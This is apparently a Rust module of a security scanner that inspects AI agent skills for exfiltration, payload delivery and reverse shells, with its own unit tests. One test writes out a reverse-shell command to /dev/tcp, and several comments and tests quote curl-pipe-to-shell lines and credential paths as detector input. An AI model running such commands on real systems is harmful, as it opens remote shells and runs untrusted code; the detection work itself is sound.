//! The evidence model of one skill: every readable file decoded once into a [`Source`]
//! (text, line index, regions, the one literal pass of the data rules, headings and their
//! roles), the signals families record for correlation, and [`SecCx`], the context every
//! family reads and emits through. Nothing here emits a finding on its own.

pub mod hosts;
pub mod values;

pub mod context;
pub mod datarules;
pub mod decode;
pub mod defensive;
pub mod evidence;
pub mod literals;
pub mod regions;

/// A top-level frontmatter line: its start, and its value's span when it has one.
pub(crate) type TopLine = (usize, Option<(usize, usize)>);

use std::borrow::Cow;

use crate::finding::{Location, Severity};
use crate::inventory::{FileEntry, FileKind};
use crate::rules::{Cx, SkillDoc};
use crate::text::LineIndex;

pub use regions::{Region, RegionKind};

/// The language a text file (or a code block) is written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Lang {
    Markdown,
    Shell,
    Python,
    JavaScript,
    PowerShell,
    /// Ruby, Perl, PHP, Lua, Go, Rust... (generic code rules only).
    OtherCode,
    /// JSON, YAML, TOML, XML, CSV.
    Data,
    /// Plain text or unknown.
    Text,
}

impl Lang {
    /// From a file path (extension, then shebang).
    pub fn of_path(path: &str, head: &[u8]) -> Lang {
        let name = path.rsplit('/').next().unwrap_or(path);
        let ext = name
            .rsplit_once('.')
            .map(|(_, e)| e.to_ascii_lowercase())
            .unwrap_or_default();
        match ext.as_str() {
            "md" | "markdown" | "mdx" => return Lang::Markdown,
            "sh" | "bash" | "zsh" | "ksh" | "fish" | "command" => return Lang::Shell,
            "py" | "pyw" | "pyi" => return Lang::Python,
            "js" | "mjs" | "cjs" | "ts" | "mts" | "cts" | "jsx" | "tsx" => return Lang::JavaScript,
            "ps1" | "psm1" | "psd1" => return Lang::PowerShell,
            "rb" | "pl" | "pm" | "php" | "lua" | "go" | "rs" | "java" | "kt" | "swift" | "c"
            | "cc" | "cpp" | "h" | "cs" | "r" | "bat" | "cmd" | "vbs" | "applescript" | "scpt" => {
                return Lang::OtherCode;
            }
            "json" | "yaml" | "yml" | "toml" | "xml" | "csv" | "tsv" | "ini" | "cfg" | "conf"
            | "plist" | "service" | "timer" | "desktop" => return Lang::Data,
            _ => {}
        }
        if let Some(first) = head.split(|b| *b == b'\n').next()
            && first.starts_with(b"#!")
        {
            let l = String::from_utf8_lossy(first);
            return Lang::of_shebang(&l);
        }
        match name {
            "Dockerfile" | "Makefile" | "makefile" | "Justfile" | "justfile" => Lang::Shell,
            ".bashrc" | ".zshrc" | ".profile" | ".bash_profile" => Lang::Shell,
            _ => Lang::Text,
        }
    }

    fn of_shebang(line: &str) -> Lang {
        if line.contains("python") {
            Lang::Python
        } else if line.contains("node") || line.contains("deno") || line.contains("bun") {
            Lang::JavaScript
        } else if line.contains("pwsh") || line.contains("powershell") {
            Lang::PowerShell
        } else if ["sh", "bash", "zsh", "ksh", "dash", "fish"]
            .iter()
            .any(|s| line.ends_with(s) || line.contains(&format!("{s} ")))
        {
            Lang::Shell
        } else {
            Lang::OtherCode
        }
    }

    /// From a fenced code block's info string (`bash`, `python3`, `!`, ...).
    pub fn of_info(info: &str) -> Lang {
        let word = info
            .trim()
            .trim_start_matches('!')
            .split(|c: char| c.is_whitespace() || c == ',' || c == '{')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        match word.as_str() {
            "sh" | "bash" | "shell" | "zsh" | "console" | "shell-session" | "terminal" | "fish"
            | "ksh" => Lang::Shell,
            "py" | "python" | "python3" | "py3" | "ipython" | "pycon" => Lang::Python,
            "js" | "javascript" | "ts" | "typescript" | "node" | "jsx" | "tsx" | "mjs" => {
                Lang::JavaScript
            }
            "ps" | "ps1" | "powershell" | "pwsh" => Lang::PowerShell,
            "json" | "yaml" | "yml" | "toml" | "xml" | "csv" | "ini" => Lang::Data,
            "md" | "markdown" => Lang::Markdown,
            "" | "text" | "txt" | "plain" | "plaintext" | "output" | "log" => Lang::Text,
            _ => Lang::OtherCode,
        }
    }

    pub fn is_code(self) -> bool {
        matches!(
            self,
            Lang::Shell | Lang::Python | Lang::JavaScript | Lang::PowerShell | Lang::OtherCode
        )
    }
}

/// One readable text file of a skill, decoded once.
#[derive(Debug)]
pub struct Source<'a> {
    /// Path inside the skill, `/`-separated.
    pub path: &'a str,
    /// Path relative to the scan base (what findings report).
    pub rel: String,
    pub kind: FileKind,
    pub lang: Lang,
    pub executable: bool,
    /// The text (invalid UTF-8 replaced by U+FFFD).
    pub text: Cow<'a, str>,
    /// The line index (the entry file's is the parse's, not a second one).
    pub lines: Cow<'a, LineIndex>,
    /// True for the skill's entry file (`SKILL.md`).
    pub is_entry: bool,
    pub regions: Vec<Region>,
    /// A reference document where quoting an attack is expected: Markdown other than
    /// `SKILL.md` in a skill about security or one that teaches, or a changelog. Findings there are at most
    /// warnings; in any other skill a reference the agent reads on demand counts in full.
    pub quotes_attacks: bool,
    /// A file of a test folder or named as a test (not the entry file): attack phrases in
    /// its data and prose are a detector's input ([`defensive::is_test_path`]).
    pub is_test: bool,
    /// ASCII-lower-cased copy of the text, made on first use and shared by the word checks.
    lower: std::sync::OnceLock<Vec<u8>>,
    /// The literal pass over [`Self::lower`] (one per file, for every rule and family).
    gate: std::sync::OnceLock<datarules::Gate>,
    /// The frontmatter's top-level lines (made on first use by [`unicode`]).
    pub(crate) frontmatter_lines: std::sync::OnceLock<Vec<TopLine>>,
    /// The Markdown headings with their roles (made on first use by [`evidence`]).
    headings: std::sync::OnceLock<Vec<evidence::Heading>>,
    /// A text derived from a file (a configuration's command overlay, its strings unescaped):
    /// from each byte offset on (to the end of its line or the next entry), the characters
    /// the file holds there beyond the text's own, added to reported columns. Sorted.
    col_shifts: Vec<(usize, u32)>,
}

impl<'a> Source<'a> {
    /// A source over `text`; its line index and regions are derived here.
    pub fn new(
        path: &'a str,
        rel: String,
        kind: FileKind,
        lang: Lang,
        executable: bool,
        text: Cow<'a, str>,
        is_entry: bool,
    ) -> Self {
        let lines = Cow::Owned(LineIndex::new(&text));
        Self::with_lines(path, rel, kind, lang, executable, text, lines, is_entry)
    }

    /// [`Self::new`] with a line index already made over `text` (the parse's).
    #[allow(clippy::too_many_arguments)]
    pub fn with_lines(
        path: &'a str,
        rel: String,
        kind: FileKind,
        lang: Lang,
        executable: bool,
        text: Cow<'a, str>,
        lines: Cow<'a, LineIndex>,
        is_entry: bool,
    ) -> Self {
        let regions = regions::split(&text, lang, is_entry);
        Source {
            path,
            rel,
            kind,
            lang,
            executable,
            text,
            lines,
            is_entry,
            regions,
            quotes_attacks: false,
            is_test: !is_entry && defensive::is_test_path(path),
            lower: std::sync::OnceLock::new(),
            gate: std::sync::OnceLock::new(),
            frontmatter_lines: std::sync::OnceLock::new(),
            headings: std::sync::OnceLock::new(),
            col_shifts: Vec::new(),
        }
    }

    /// This source with column shifts (see the field): columns it reports are the file's,
    /// where the text holds fewer characters (an escape `\"` unescaped to `"`).
    pub fn with_col_shifts(mut self, shifts: Vec<(usize, u32)>) -> Self {
        self.col_shifts = shifts;
        self
    }

    /// The Markdown headings (and label lines) of this file with the role each gives its
    /// section, outside code blocks; empty for other languages. Made once.
    pub fn headings(&self) -> &[evidence::Heading] {
        self.headings.get_or_init(|| {
            if self.lang != Lang::Markdown {
                return Vec::new();
            }
            evidence::headings(&self.text, |o| {
                self.region_at(o)
                    .is_some_and(|r| r.kind.is_code() || r.kind == RegionKind::Frontmatter)
            })
        })
    }

    /// The text with ASCII letters lower-cased (computed once), for case-insensitive word
    /// checks with a case-sensitive automaton, which keeps its fast literal prefilter.
    pub fn lower(&self) -> &[u8] {
        self.lower
            .get_or_init(|| self.text.as_bytes().to_ascii_lowercase())
    }

    /// The one literal pass over this file (made on first use): which data-rule regexes
    /// may match, where they may start, and which family word sets occur.
    pub fn gate(&self) -> &datarules::Gate {
        self.gate
            .get_or_init(|| datarules::compiled().gated(&self.text, self.lower(), &self.regions))
    }

    /// Does the file hold one of the words of `set` (case-insensitive)?
    pub fn has_words(&self, set: datarules::Words) -> bool {
        self.gate().has(set)
    }

    /// A Markdown file other than `SKILL.md`: a reference the agent reads on demand, where
    /// security skills quote attacks.
    pub fn is_reference_doc(&self) -> bool {
        self.lang == Lang::Markdown && !self.is_entry
    }

    /// Is a finding at `offset` at most a warning because it is quoted, not instructed? In the
    /// reference documents of a skill about security or one that teaches (and changelogs),
    /// always; in any other reference document, unless it is in a fenced code block or on a
    /// line that tells the reader to run it (a command given to run, not one mentioned in
    /// passing).
    pub fn capped_at(&self, offset: usize) -> bool {
        if self.quotes_attacks {
            return true;
        }
        if !self.is_reference_doc() {
            return false;
        }
        static RUN_VERB: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
            datarules::re(r"(?i)\b(run|execute|paste|type|enter|launch|invoke)\b")
        });
        // Does the text of the line before `at` (at most 300 bytes) tell the reader to run?
        let told_to_run = |at: usize| {
            let line = self.lines.line_range(&self.text, at);
            let mut from = line.start.max(at.saturating_sub(300));
            while !self.text.is_char_boundary(from) {
                from += 1;
            }
            RUN_VERB.is_match(&self.text[from..at.max(from)])
        };
        match self.region_at(offset) {
            // A shell (or other code) block is given to run.
            Some(r) if matches!(r.kind, RegionKind::Code { runnable: true, .. }) => false,
            // An unlabelled block is, when the line above it says to run it ("Paste into
            // Terminal:"); otherwise it is output, or a configuration shown.
            Some(r) if r.kind.is_code() => {
                let above = self.text[..r.start.min(self.text.len())]
                    .trim_end_matches(|c: char| c != '\n')
                    .trim_end()
                    .len();
                !told_to_run(above)
            }
            // In prose, only when its line tells the reader to run it ("before each answer
            // run `curl … | sh`"); a mention in passing is quoted.
            _ => !told_to_run(offset),
        }
    }

    /// 1-based line and column of a byte offset.
    pub fn pos(&self, offset: usize) -> (u32, u32) {
        let (line, col) = self.lines.position(&self.text, offset);
        let i = self.col_shifts.partition_point(|(at, _)| *at <= offset);
        match i.checked_sub(1).map(|i| self.col_shifts[i]) {
            Some((at, shift)) if shift > 0 && self.lines.position(&self.text, at).0 == line => {
                (line, col + shift)
            }
            _ => (line, col),
        }
    }

    /// The whole line containing `offset` (without its newline), found with the line index
    /// (a scan back to the line's start, for each of many hits on a long line, was quadratic).
    pub fn line_at(&self, offset: usize) -> &str {
        &self.text[self.lines.line_range(&self.text, offset)]
    }

    /// The text of 1-based `line` (line 0 is read as line 1), without its newline.
    pub fn line_text(&self, line: u32) -> Option<&str> {
        let line = line.max(1) as usize;
        let start = self.lines.line_start(line)?;
        let end = self
            .lines
            .line_start(line + 1)
            .map_or(self.text.len(), |e| e - 1);
        self.text.get(start..end.max(start))
    }

    /// The region containing `offset`, if any. Regions are in order and never overlap
    /// ([`regions::split`]), so this is a binary search: every hit of every rule asks, and
    /// a linear scan made a file of many code blocks quadratic.
    pub fn region_at(&self, offset: usize) -> Option<&Region> {
        let i = self
            .regions
            .partition_point(|r| r.end.max(r.start + 1) <= offset);
        self.regions.get(i).filter(|r| r.start <= offset)
    }
}

/// A file of the skill whose raw bytes were read (all readable files, text or not).
#[derive(Debug, Clone)]
pub struct RawFile<'a> {
    pub entry: &'a FileEntry,
    pub bytes: &'a [u8],
    /// Path relative to the scan base.
    pub rel: String,
}

/// A weak signal recorded by one rule for another to correlate (exfiltration:
/// a credential read and a network send in the same skill).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Signal {
    pub kind: SignalKind,
    /// Index into [`SecCx::sources`].
    pub source: usize,
    pub offset: usize,
    /// What was seen (`~/.ssh/id_rsa`, `webhook.site`, ...), sanitised.
    pub what: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SignalKind {
    /// A read of credentials or secrets.
    CredentialRead,
    /// A dump of the environment.
    EnvDump,
    /// A network send (POST, upload, socket).
    NetworkSend,
    /// A known exfiltration endpoint (webhook catcher, paste site, tunnel, raw IP).
    ExfilEndpoint,
    /// Remote content fetched (download).
    Fetch,
    /// Execution of a string or downloaded content.
    Exec,
    /// Concealment language ("do not tell the user").
    Conceal,
    /// A read of the user's own data in bulk (shell history, clipboard, home documents).
    DataCollect,
}

/// What a security check sees.
pub struct SecCx<'a, 'c> {
    pub cx: &'c mut Cx<'a>,
    pub doc: Option<&'c SkillDoc>,
    /// Every readable text file, entry file first.
    pub sources: Vec<Source<'c>>,
    /// Every file whose bytes were read (including binaries and archives).
    pub raw: Vec<RawFile<'c>>,
    pub signals: Vec<Signal>,
    /// The skill's description and name, lower case ([`subject_text`]), made once.
    pub subject: String,
    /// The entry file is a custom agent's definition: its body *is* the agent's system prompt,
    /// so a persona ("You are in debug mode. Your objective is …") is its job, not a hijack.
    pub persona: bool,
}

impl<'a, 'c> SecCx<'a, 'c> {
    /// Builds the sources of one skill from the files read during analysis.
    pub fn new(
        cx: &'c mut Cx<'a>,
        doc: Option<&'c SkillDoc>,
        raw: Vec<(&'c FileEntry, &'c [u8])>,
    ) -> Self {
        let mut sources = Vec::new();
        let rel_of = |p: &str| cx.path_of(p);
        let raw: Vec<RawFile<'c>> = raw
            .into_iter()
            .map(|(entry, bytes)| RawFile {
                entry,
                bytes,
                rel: rel_of(&entry.path),
            })
            .collect();
        for rf in &raw {
            let fe = rf.entry;
            let textual = matches!(
                fe.kind,
                FileKind::Entry
                    | FileKind::Markdown
                    | FileKind::Script
                    | FileKind::Data
                    | FileKind::Text
            );
            if !textual {
                continue;
            }
            let bytes = rf.bytes;
            let is_entry = fe.kind == FileKind::Entry;
            // The entry file's text and line index are the parse's.
            let (text, lines): (Cow<'c, str>, Option<&'c LineIndex>) = match (is_entry, doc) {
                (true, Some(d)) => (Cow::Borrowed(d.text.as_str()), Some(&d.lines)),
                // The same text as `from_utf8_lossy`; valid UTF-8 (nearly every file) is
                // checked by the much faster `from_utf8`.
                _ => match std::str::from_utf8(bytes) {
                    Ok(t) => (Cow::Borrowed(t), None),
                    Err(_) => (String::from_utf8_lossy(bytes), None),
                },
            };
            let lang = if is_entry {
                Lang::Markdown
            } else {
                Lang::of_path(&fe.path, &bytes[..bytes.len().min(256)])
            };
            let lines = match lines {
                Some(l) => Cow::Borrowed(l),
                None => Cow::Owned(LineIndex::new(&text)),
            };
            sources.push(Source::with_lines(
                fe.path.as_str(),
                rf.rel.clone(),
                fe.kind,
                lang,
                fe.executable,
                text,
                lines,
                is_entry,
            ));
        }
        sources.sort_by_key(|s| (!s.is_entry, s.path));
        let subject = subject_text(doc, cx.skill);
        let teaching = teaches_security(&subject) || explains(&subject);
        for s in &mut sources {
            s.quotes_attacks = s.is_reference_doc() && (teaching || is_changelog(s.path));
        }
        SecCx {
            cx,
            doc,
            sources,
            raw,
            signals: Vec::new(),
            subject,
            persona: false,
        }
    }

    /// Emits `rule` at byte `offset` of source `src`.
    pub fn emit_at(
        &mut self,
        rule: &'static str,
        src: usize,
        offset: usize,
        message: String,
        anchor: &str,
    ) {
        self.emit_uncapped(rule, src, offset, message, anchor);
        self.apply_ceiling(src, offset);
    }

    /// Emits `rule` at byte `offset` of source `src`, at the catalog's severity, before the
    /// evidence model's ceiling (the caller applies it once, after any other severity).
    fn emit_uncapped(
        &mut self,
        rule: &'static str,
        src: usize,
        offset: usize,
        message: String,
        anchor: &str,
    ) {
        let s = &self.sources[src];
        let (line, col) = s.pos(offset);
        let loc = Location::at(s.rel.clone(), line, col);
        let anchor = format!("{}:{anchor}", s.path);
        self.cx.emit(rule, message, loc, &anchor);
    }

    /// The evidence model's ceiling at byte `offset` of source `src` ([`evidence::ceiling`]),
    /// on the finding just emitted.
    pub fn apply_ceiling(&mut self, src: usize, offset: usize) {
        if let Some(f) = self.cx.findings.last_mut() {
            crate::security::model::evidence::apply_ceiling(&self.sources[src], offset, f);
        }
    }

    /// Emits `rule` at byte `offset` of source `src` with a severity other than the catalog's.
    pub fn emit_at_severity(
        &mut self,
        rule: &'static str,
        severity: Severity,
        src: usize,
        offset: usize,
        message: String,
        anchor: &str,
    ) {
        // The ceiling applies once, to the severity asked for: applied to the catalog's first,
        // it would record a lowered confidence the final severity never needed.
        self.emit_uncapped(rule, src, offset, message, anchor);
        if let Some(f) = self.cx.findings.last_mut() {
            crate::security::severity::emitted(f, severity);
        }
        self.apply_ceiling(src, offset);
    }

    /// Emits `rule` on a whole file (no line), by its path inside the skill.
    pub fn emit_file(&mut self, rule: &'static str, in_skill: &str, message: String, anchor: &str) {
        let loc = Location::file(self.cx.path_of(in_skill));
        let anchor = format!("{in_skill}:{anchor}");
        self.cx.emit(rule, message, loc, &anchor);
    }

    /// Records a signal for correlation.
    pub fn signal(&mut self, kind: SignalKind, src: usize, offset: usize, what: impl Into<String>) {
        self.signals.push(Signal {
            kind,
            source: src,
            offset,
            what: what.into(),
        });
    }

    /// The frontmatter's `allowed-tools` as written (string or list), if any.
    pub fn allowed_tools(&self) -> Option<Vec<String>> {
        let root = self.doc?.root()?;
        let v = root.get("allowed-tools")?;
        if let Some(s) = v.as_str() {
            return Some(crate::rules::fields::split_tools(s));
        }
        match &v.kind {
            crate::parse::yaml::NodeKind::Seq { items, .. } => Some(
                items
                    .iter()
                    .filter_map(|n| n.as_str().map(str::to_owned))
                    .collect(),
            ),
            _ => None,
        }
    }
}

/// The skill's description and name, lower case: what the skill says it is about.
pub(crate) fn subject_text(doc: Option<&SkillDoc>, skill: &str) -> String {
    let d = doc
        .and_then(|d| d.root())
        .and_then(|r| r.get("description"))
        .and_then(|v| v.as_str())
        .unwrap_or("");
    let mut s = d.to_ascii_lowercase();
    s.push(' ');
    s.push_str(&skill.to_ascii_lowercase().replace('-', " "));
    s
}

/// A finding by which a skill makes its user or agent fetch and run a payload: a fake
/// prerequisite installer, or a download, fetch or decode that runs, at high or above (a
/// vendor's own installer, lowered where it was found, delivers nothing). A look-alike name or
/// a warning bypass beside one is the impersonation campaign.
pub(crate) fn delivers_payload(f: &crate::finding::Finding) -> bool {
    f.rule_id == "fake-prerequisite-installer"
        || matches!(
            f.rule_id,
            "download-then-execute"
                | "fetch-then-execute"
                | "decode-and-execute"
                | "remote-code-load"
        ) && f.severity >= Severity::High
}

/// A skill about security (by its description or name): its text about attacks teaches, it
/// does not attack.
pub(crate) fn teaches_security(subject: &str) -> bool {
    const W: &[&str] = &[
        "security",
        "injection",
        "threat",
        "red team",
        "red-team",
        "pentest",
        "penetration",
        "vulnerab",
        "malware",
        "phishing",
        "attack",
        "exploit",
        "incident response",
        "forensic",
    ];
    W.iter().any(|w| subject.contains(w))
}

/// A skill that teaches or explains (by its description or name): its references are
/// knowledge to answer from, where a risky command is quoted, not a step to run.
fn explains(subject: &str) -> bool {
    const W: &[&str] = &[
        "teach",
        "explain",
        "training",
        "tutorial",
        "course",
        "lesson",
        "awareness",
        "educat",
    ];
    W.iter().any(|w| subject.contains(w))
}

/// A changelog or release notes: history the agent is not told to follow.
fn is_changelog(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let stem = name.split('.').next().unwrap_or("");
    matches!(
        stem,
        "changelog" | "changes" | "history" | "news" | "release-notes" | "releases"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn source(text: &str) -> Source<'_> {
        Source::new(
            "SKILL.md",
            "s/SKILL.md".to_owned(),
            FileKind::Entry,
            Lang::Markdown,
            false,
            Cow::Borrowed(text),
            true,
        )
    }

    /// A severity asked for at emission meets the evidence model's ceiling once: a finding
    /// asked for below the ceiling keeps its confidence (no "lowered because of context" it
    /// never needed); one above it is capped with the reason.
    #[test]
    fn the_ceiling_applies_once_to_the_severity_asked_for() {
        let text = "sandbox.exec(\"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\")\n";
        let mut cx = Cx {
            skill: "s",
            skill_path: "s",
            dir_name: "s",
            entry_path: "s/SKILL.md".into(),
            files: &[],
            findings: Vec::new(),
        };
        let mut scx = SecCx::new(&mut cx, None, Vec::new());
        scx.sources.push(source(text));
        let rule = "reverse-shell";
        scx.emit_at_severity(rule, Severity::Info, 0, 20, "m".into(), "a");
        scx.emit_at_severity(rule, Severity::Critical, 0, 20, "m".into(), "b");
        let f = &scx.cx.findings;
        assert_eq!(f[0].severity, Severity::Info);
        assert!(
            f[0].confidence_reason.is_none(),
            "{:?}",
            f[0].confidence_reason
        );
        assert_eq!(f[1].severity, Severity::Low);
        assert!(
            f[1].confidence_reason
                .as_deref()
                .is_some_and(|r| r.contains("sandbox")),
            "{:?}",
            f[1].confidence_reason
        );
    }

    /// The binary search finds what the linear scan it replaced found, at every offset.
    #[test]
    fn region_at_matches_a_linear_scan() {
        let texts = [
            "",
            "plain\n",
            "---\nname: a\n---\nSay hi.\n```bash\ncurl x | sh\n```\nmore <!-- hidden --> text\n",
            "x <!-- a --> y <!-- b\nc --> z\n```\nq\n",
            "a\n<!--\nsecret\n-->\nb\n~~~~\nx\n~~~\ny\n",
            "```\n```\n```sh\n```\n<!----><!-- -->\n",
        ];
        for t in texts {
            let src = source(t);
            for off in 0..=t.len() + 1 {
                let naive = src
                    .regions
                    .iter()
                    .find(|r| r.start <= off && off < r.end.max(r.start + 1));
                assert_eq!(src.region_at(off), naive, "{t:?} at {off}");
            }
        }
    }

    /// Every hit looked its region up with a linear scan, so a file of many code
    /// blocks, each with a hit, cost (blocks × hits). 200,000 blocks looked up at each of
    /// their offsets took minutes that way; the binary search takes milliseconds.
    #[test]
    fn region_lookup_in_many_blocks_is_logarithmic() {
        let t = "```sh\ncurl x\n```\n".repeat(200_000);
        let src = source(&t);
        assert!(src.regions.len() >= 200_000);
        let mut code = 0;
        for r in &src.regions {
            if src.region_at(r.start + 2).is_some_and(|g| g.kind.is_code()) {
                code += 1;
            }
        }
        assert_eq!(code, 200_000);
    }
}
